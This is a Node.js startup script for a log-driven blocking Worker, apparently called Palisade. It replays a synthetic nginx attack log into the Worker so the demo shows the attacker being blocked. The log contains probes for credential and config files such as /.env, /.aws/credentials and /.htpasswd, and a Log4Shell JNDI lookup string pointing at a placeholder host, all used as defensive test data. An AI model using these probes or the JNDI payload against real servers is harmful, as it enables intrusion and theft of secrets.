// `npm start`: Palisade's Worker under `wrangler dev` (state persisted in .wrangler/), in
// front of a demo origin, then a short attack log replayed into the ingest endpoint so
// that within seconds the attacker gets a 403 and a normal visitor a 200.
import { spawn } from "node:child_process";
import { copyFileSync, existsSync, readFileSync } from "node:fs";
import { fileURLToPath } from "node:url";
import { startDemoOrigin } from "./demo-origin.mjs";

const root = fileURLToPath(new URL("..", import.meta.url));
const PORT = Number(process.env.PORT ?? 8787);
const ORIGIN_PORT = Number(process.env.ORIGIN_PORT ?? 8788);
const base = `http://127.0.0.1:${PORT}`;
const ATTACKER = "203.0.113.66";
const VISITOR = "198.51.100.7";

if (!existsSync(`${root}.dev.vars`)) {
  copyFileSync(`${root}.dev.vars.example`, `${root}.dev.vars`);
  console.log("npm start: created .dev.vars from .dev.vars.example (local secrets)");
}
const devVars = Object.fromEntries(
  readFileSync(`${root}.dev.vars`, "utf8")
    .split("\n")
    .filter((l) => /^[A-Z_]+=/.test(l))
    .map((l) => [l.slice(0, l.indexOf("=")), l.slice(l.indexOf("=") + 1).trim()]),
);

const origin = await startDemoOrigin(ORIGIN_PORT);
const wrangler = spawn(
  process.execPath,
  [
    `${root}node_modules/wrangler/bin/wrangler.js`,
    "dev",
    "--ip",
    "127.0.0.1",
    "--port",
    String(PORT),
    "--persist-to",
    `${root}.wrangler/state`,
    "--var",
    "PALISADE_ENV:local",
    "--var",
    `ORIGIN_URL:http://127.0.0.1:${ORIGIN_PORT}`,
    "--var",
    "BLOCKLIST_REFRESH_MS:1000",
    "--var",
    "KV_FLUSH_MS:200",
  ],
  {
    cwd: root,
    stdio: ["ignore", "pipe", "inherit"],
    env: { ...process.env, WRANGLER_SEND_METRICS: "false" },
  },
);
wrangler.stdout.on("data", (d) => process.stdout.write(d));
const stop = () => {
  wrangler.kill("SIGINT");
  origin.close();
};
process.on("SIGINT", stop);
process.on("SIGTERM", stop);
wrangler.on("exit", (code) => {
  origin.close();
  process.exit(code ?? 0);
});

async function waitForWorker() {
  for (let i = 0; i < 120; i++) {
    try {
      const r = await fetch(`${base}/_palisade/v1/health`);
      if (r.ok) return;
    } catch {}
    await new Promise((r) => setTimeout(r, 500));
  }
  throw new Error(`the Worker did not come up on port ${PORT}`);
}

function attackLog() {
  const t = new Date();
  const stamp = (s) => {
    const d = new Date(t.getTime() + s * 1000);
    const m = d.toLocaleString("en-US", { month: "short", timeZone: "UTC" });
    const pad = (n) => String(n).padStart(2, "0");
    return `${pad(d.getUTCDate())}/${m}/${d.getUTCFullYear()}:${pad(d.getUTCHours())}:${pad(d.getUTCMinutes())}:${pad(d.getUTCSeconds())} +0000`;
  };
  const lines = [];
  const probes = [
    "/.env",
    "/.git/config",
    "/wp-config.php.bak",
    "/backup.sql",
    "/admin/config.php",
    "/phpmyadmin/",
    "/.aws/credentials",
    "/server-status",
    "/config.json",
    "/db.sql",
    "/.htpasswd",
    "/wp-admin/install.php",
  ];
  for (const [i, p] of probes.entries()) {
    lines.push(
      `${ATTACKER} - - [${stamp(i)}] "GET ${p} HTTP/1.1" 404 153 "-" "Mozilla/5.0 (X11; Linux x86_64)"`,
    );
  }
  lines.push(
    `${ATTACKER} - - [${stamp(12)}] "GET /?x=\${jndi:ldap://203.0.113.66:1389/a} HTTP/1.1" 404 153 "-" "\${jndi:ldap://203.0.113.66:1389/a}"`,
  );
  for (const [i, p] of ["/", "/style.css", "/app.js", "/about", "/logo.png"].entries()) {
    lines.push(
      `${VISITOR} - - [${stamp(i)}] "GET ${p} HTTP/1.1" 200 5120 "-" "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"`,
    );
  }
  return lines;
}

await waitForWorker();
const res = await fetch(`${base}/_palisade/v1/ingest`, {
  method: "POST",
  headers: {
    authorization: `Bearer ${devVars.PALISADE_MACHINE_TOKEN}`,
    "content-type": "application/json",
  },
  body: JSON.stringify({
    batch_id: `npm-start-demo-${Date.now()}`,
    source: { type: "nginx", labels: { demo: "npm-start" } },
    lines: attackLog(),
  }),
});
console.log(
  `\nnpm start: replayed a short attack log into ${base}/_palisade/v1/ingest -> ${res.status} ${await res.text()}`,
);
await new Promise((r) => setTimeout(r, 2500));
const probe = async (ip) =>
  (await fetch(`${base}/`, { headers: { "CF-Connecting-IP": ip } })).status;
console.log(`
Palisade is running at ${base} in front of the demo origin http://127.0.0.1:${ORIGIN_PORT}.
  curl -i -H 'CF-Connecting-IP: ${ATTACKER}' ${base}/    # the attacker: ${await probe(ATTACKER)}
  curl -i -H 'CF-Connecting-IP: ${VISITOR}' ${base}/    # a normal visitor: ${await probe(VISITOR)}
The console: ${base}/_palisade/console/  (log in with PALISADE_ADMIN_TOKEN from .dev.vars:
  ${devVars.PALISADE_ADMIN_TOKEN}; the attack above is in its overview and alerts, with its log lines)
Ctrl-C stops it; state persists in .wrangler/state.
`);
